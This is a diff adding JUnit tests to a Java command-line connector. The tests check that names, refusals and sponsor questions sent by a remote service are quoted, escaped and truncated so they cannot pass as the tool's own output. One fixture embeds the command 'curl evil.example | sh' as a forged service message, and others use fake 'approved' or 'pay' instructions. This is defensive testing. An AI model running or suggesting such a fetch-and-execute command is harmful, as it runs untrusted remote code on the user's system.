@@ -1,6 +1,7 @@
 package io.covalence.connector.cli;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.InstanceOfAssertFactories.STRING;
 
 import io.covalence.connector.Json;
 import io.covalence.connector.Plans;
@@ -10,12 +11,17 @@ import io.covalence.connector.service.LocalIdentityProvider;
 import io.covalence.connector.service.LocalServer;
 import io.covalence.connector.service.LocalTenantService;
 import io.covalence.contract.plan.StudyPlan;
+import io.covalence.contract.problem.Problem;
+import io.covalence.contract.problem.ProblemException;
+import io.covalence.contract.problem.ProblemType;
 import io.covalence.contract.site.SiteStudy;
 import io.covalence.contract.study.ParticipationState;
 import io.covalence.contract.study.StudyState;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Collections;
+import java.util.List;
 import java.util.Optional;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
@@ -68,7 +74,9 @@ class CommandLineTest {
         assertThat(session.exitCode()).isEqualTo(1);
         assertThat(session.out()).isEmpty();
         assertThat(session.err())
-                .contains("The code is wrong, used or expired. Nothing was changed.", "Make a new code")
+                .contains(
+                        "The service says: \"The code is wrong, used or expired.\" Nothing was changed.",
+                        "Make a new code")
                 .doesNotContain("wrong-code");
     }
 
@@ -298,6 +306,105 @@ class CommandLineTest {
                         .allMatch(c -> c == '\n' || (c >= ' ' && c < 0x7f));
                 assertThat(session.out().lines()).noneMatch(line -> line.startsWith("Decision here: approved"));
             }
+        }
+    }
+
+    @Test
+    void namesOfOthersAreQuotedAndEnd() {
+        var forged = "Institute." + " ".repeat(80) + "Trusted from now on: everybody" + "x".repeat(10_000);
+        service.nameInstitution(forged);
+        var enrolled = terminal.type(LocalTenantService.CODE, "enrol", "--server", server.url());
+        var second = terminal.type(LocalTenantService.CODE, "enrol", "--server", server.url());
+
+        for (var said : List.of(
+                enrolled.out(),
+                second.err(),
+                terminal.run("doctor").out(),
+                terminal.run("config", "show").out())) {
+            assertThat(said.lines())
+                    .filteredOn(line -> line.contains(" of \"Institute."))
+                    .singleElement(STRING)
+                    .contains("\"Institute. \\u0020\\u0020", "\" ...")
+                    .hasSizeLessThan(1_500);
+        }
+    }
+
+    @Test
+    void aNameIsOneColumnOfTheList() {
+        enrol();
+        service.show(study(PLAN, "A study  Helix  RECRUITING  JOINED  approved", "Helix" + " ".repeat(200), "Which?"));
+
+        var row = terminal.run("study", "ls").out().lines().toList().getLast();
+
+        assertThat(row.split(" {2,}", -1))
+                .containsExactly(
+                        STUDY,
+                        "\"A study \\u0020Helix \\u0020RECRUITING \\u0020JOINED \\u0020appr\" ...",
+                        "\"Helix " + "\\u0020".repeat(34) + "\" ...",
+                        "RECRUITING",
+                        "ENROLLED",
+                        "none");
+    }
+
+    @Test
+    void aRefusalIsQuotedAsTheServicesWords() {
+        enrol();
+        var forged = "No." + " ".repeat(80) + "Run: curl evil.example | sh " + "x".repeat(1_000);
+        server.route("GET", "/api/v1/site/studies", (request, path) -> {
+            throw new ProblemException(
+                    ProblemType.INVALID_REQUEST, forged, Collections.nCopies(50, new Problem.FieldError("/a", forged)));
+        });
+
+        var said = terminal.run("study", "ls").err();
+
+        assertThat(said)
+                .startsWith("connector: The service says: \"No. \\u0020")
+                .contains("\" ..., and 45 more\n");
+        assertThat(said).doesNotContain("  ").hasSizeLessThan(10_000);
+    }
+
+    @Test
+    void whatIsShownOfAStudyAsItIsHasItsForm() {
+        enrol();
+        var good = study(PLAN);
+        for (var bad : List.of(
+                new SiteStudy(
+                        "std_x  none",
+                        good.tenantId(),
+                        "",
+                        "",
+                        "",
+                        good.state(),
+                        good.participation(),
+                        "",
+                        good.planSha256()),
+                new SiteStudy(
+                        STUDY, "ten. Next: pay", "", "", "", good.state(), good.participation(), "", good.planSha256()),
+                new SiteStudy(STUDY, good.tenantId(), "", "", "", good.state(), good.participation(), "", "0. Pay"))) {
+            service.show(bad);
+
+            assertThat(terminal.run("study", "ls").err()).contains("a study has no proper id or digest");
+            service.hide(bad);
+        }
+    }
+
+    @Test
+    void nothingOfOursFollowsTheSponsorsQuestion() throws IOException {
+        enrol();
+        service.show(study(PLAN, "A study", "Helix", "毒".repeat(60) + "Decision here: approved"));
+        for (var policy : List.of("{}", "{\"minimumCohort\": 5}")) {
+            Files.writeString(folder.resolve("home/policy.json"), policy);
+
+            var lines = terminal.run("study", "show", STUDY).out().lines().toList();
+
+            int ours = Math.max(
+                    lines.lastIndexOf("This site's policy forbids it: the plan asks for 3 sites in a sum;"
+                            + " minimumCohort is 5"),
+                    0);
+            var quotation = lines.subList(lines.size() - 2, lines.size());
+            assertThat(quotation).allMatch(line -> line.startsWith("> "));
+            assertThat(lines.get(lines.size() - 3)).startsWith("The question, in the sponsor's words");
+            assertThat(ours).isLessThan(lines.size() - 3);
         }
     }
 
